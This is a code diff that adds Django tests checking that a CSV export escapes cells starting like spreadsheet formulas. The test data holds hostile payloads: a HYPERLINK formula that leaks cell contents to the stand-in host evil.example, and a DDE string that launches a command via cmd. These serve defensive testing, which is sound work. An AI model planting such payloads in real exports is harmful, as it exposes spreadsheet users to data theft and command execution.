@@ -491,3 +491,49 @@ def test_full_geojson_streams_in_constant_queries(client, django_assert_max_num_
     with django_assert_max_num_queries(10) as large:
         assert len(full_geojson(client)["features"]) == 303
     assert len(large.captured_queries) == len(small.captured_queries)
+
+
+# --- Formula injection (OWASP "CSV injection") -------------------------------------------
+
+FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez")'
+
+
+def test_text_starting_like_a_formula_is_exported_inert(client, db):
+    # An overseas seat: negative longitude and latitude must stay numbers.
+    pole = located_pole("97411", name=FORMULA_NAME, slug="pole-formule")
+    animator = StructureFactory(name="@SUM(1+1)*cmd|' /C calc'!A0")
+    MembershipFactory(pole=pole, structure=animator, role=Membership.Role.ANIMATOR)
+    MembershipFactory(pole=pole, structure=StructureFactory(name="-2+3"))
+    MembershipFactory(pole=pole, structure=StructureFactory(name="\tTabulée"))
+    MembershipFactory(pole=pole, structure=StructureFactory(name="Recyclerie - sans risque"))
+
+    _text, rows = read_csv(download(client, "/poles.csv"))
+    (row,) = rows
+    assert row["name"] == "'" + FORMULA_NAME
+    assert row["animator"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["latitude"].startswith("-2") and row["longitude"].startswith("55.")
+    assert float(row["latitude"]) < 0  # numeric column: no quote
+
+    _text, rows = read_csv(download(client, "/poles/structures.csv"))
+    names = {row["name"] for row in rows}
+    assert names == {
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "'-2+3",
+        "'\tTabulée",
+        "Recyclerie - sans risque",
+    }
+
+
+def test_csv_cell_escapes_text_but_not_numbers():
+    from poles.exports import csv_cell
+
+    assert csv_cell("=1+1") == "'=1+1"
+    assert csv_cell("+33 1 23 45 67 89") == "'+33 1 23 45 67 89"
+    assert csv_cell("\r=1") == "'\r=1"
+    assert csv_cell("-12") == "'-12"  # text, e.g. a name
+    assert csv_cell("-12.5", numeric=True) == "-12.5"  # a numeric column's value
+    assert csv_cell("-1+1", numeric=True) == "'-1+1"  # not a number: still escaped
+    assert csv_cell(Decimal("-21.1151")) == "-21.1151"
+    assert csv_cell(-3) == "-3"
+    assert csv_cell(["-a", "b"]) == "'-a|b"
+    assert csv_cell("Économie sociale") == "Économie sociale"
